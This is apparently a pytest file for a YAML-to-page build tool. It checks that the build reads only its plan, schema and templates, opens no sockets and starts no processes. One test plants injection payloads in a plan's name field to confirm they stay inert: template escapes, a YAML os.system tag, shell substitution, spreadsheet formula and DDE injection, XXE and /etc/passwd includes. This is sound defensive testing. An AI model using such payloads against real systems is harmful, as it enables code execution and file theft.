"""No code runs from data, nothing is fetched, nothing is read outside the plan, the schema and the templates."""

from __future__ import annotations

import os
import subprocess
import sys
import sysconfig
from pathlib import Path

import pytest

WATCHED = """
import os, runpy, sys
seen = []
def watch(event, arguments):
    if event == "open" and isinstance(arguments[0], (str, bytes)):
        seen.append(f"open {os.path.abspath(os.fsdecode(arguments[0]))}")
    elif event.startswith(("socket.", "subprocess.", "os.system", "os.exec", "os.posix_spawn", "os.fork", "urllib.", "ctypes.dlopen")):
        seen.append(f"{event} {arguments}")
sys.addaudithook(watch)
leave = os._exit
def report(code):
    with open(sys.argv[1], "w") as file:
        file.write("\\n".join(seen))
    leave(code)
os._exit = report
log, sys.argv = sys.argv[1], ["build.py", *sys.argv[2:]]
sys.argv.insert(1, log); sys.argv.pop(1)
real = report
os._exit = lambda code: (open(log, "w").write("\\n".join(seen)), leave(code))
runpy.run_path("build.py", run_name="__main__")
"""


def watched(root: Path, log: Path, *arguments: str) -> tuple[int, list[str]]:
    """Run the command with an audit hook; give its exit code and what it opened or started."""
    command = [sys.executable, "-c", WATCHED, str(log), *arguments]
    environment = {"PATH": os.environ["PATH"], "XDG_CACHE_HOME": str(log.parent / "cache")}
    done = subprocess.run(command, cwd=root, env=environment, capture_output=True, check=False)
    return done.returncode, log.read_text("utf-8").splitlines()


@pytest.mark.parametrize("command", [["build"], ["check"], ["check", "--format", "json"]])
def test_only_the_plan_the_schema_and_the_templates_are_read(root, plan, tmp_path, command):
    output = ["--output", str(tmp_path / "out")] if command == ["build"] else []
    code, seen = watched(root, tmp_path / "log", *command, "--plan", str(plan), *output)
    assert code == 0
    libraries = {sysconfig.get_paths()[name] for name in ("stdlib", "platstdlib", "purelib", "platlib")}
    allowed = [
        plan,
        tmp_path / "out",
        tmp_path / "log",
        tmp_path / "cache",
        root / "schema",
        root / "templates",
        root / "izlence",
        root / "build.py",
    ]
    folders = tuple(f"open {path}" for path in (*allowed, *sorted(libraries), sys.prefix, sys.base_prefix))
    machine = (
        "open /dev/null",
        "open /usr/share/zoneinfo",
        "open /etc/localtime",
        "open /proc",
        "open /sys/fs/cgroup",
    )
    assert [line for line in seen if not line.startswith((*folders, *machine))] == []
    assert any(line.startswith(f"open {plan}") for line in seen)


def test_no_socket_is_opened_and_nothing_is_started(run, plan, tmp_path, monkeypatch):
    def refuse(*_arguments, **_options):
        raise AssertionError("the program reached out")

    for name in (
        "socket.socket.__init__",
        "socket.create_connection",
        "subprocess.Popen",
        "os.system",
        "urllib.request.urlopen",
    ):
        monkeypatch.setattr(name, refuse)
    assert run("--plan", plan, "--output", tmp_path / "out")[0] == 0


@pytest.mark.parametrize(
    "text",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{% include '/etc/passwd' %}",
        "!!python/object/apply:os.system ['touch canary']",
        "$(touch canary) `touch canary` ; touch canary",
        '=HYPERLINK("https://x.tr?"&A1)',
        "=cmd|' /C calc'!A0",
        "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
        "INCLUDETEXT /etc/passwd",
    ],
)
def test_a_text_that_looks_like_code_is_a_text(run, plan, tmp_path, monkeypatch, text):
    monkeypatch.chdir(tmp_path)
    page = plan / "2024/halkla-iliskiler/PH4.4.1.yaml"
    quoted = "'" + text.replace("'", "''") + "'"
    page.write_text(page.read_text().replace("name: Yazılım bakım onarım, malzeme alımı", f"name: {quoted}"))
    code, _, err = run("2024", "--plan", plan, "--output", tmp_path / "out")
    assert code == 0, err
    assert not list(tmp_path.rglob("canary"))


def test_a_plan_that_names_a_schema_of_its_own_is_judged_by_ours(run, plan):
    """The first line of each file tells an editor's program where its schema is; a build never follows it."""
    page = plan / "2024/halkla-iliskiler/PH4.4.1.yaml"
    page.write_text(
        "# yaml-language-server: $schema=https://x.tr/s.json\n$schema: https://x.tr/s.json\n"
        + page.read_text()
    )
    code, out, _ = run("check", "2024", "--plan", plan)
    assert code == 1
    assert "“$schema” diye bir alan yok. [unknown-field]" in out
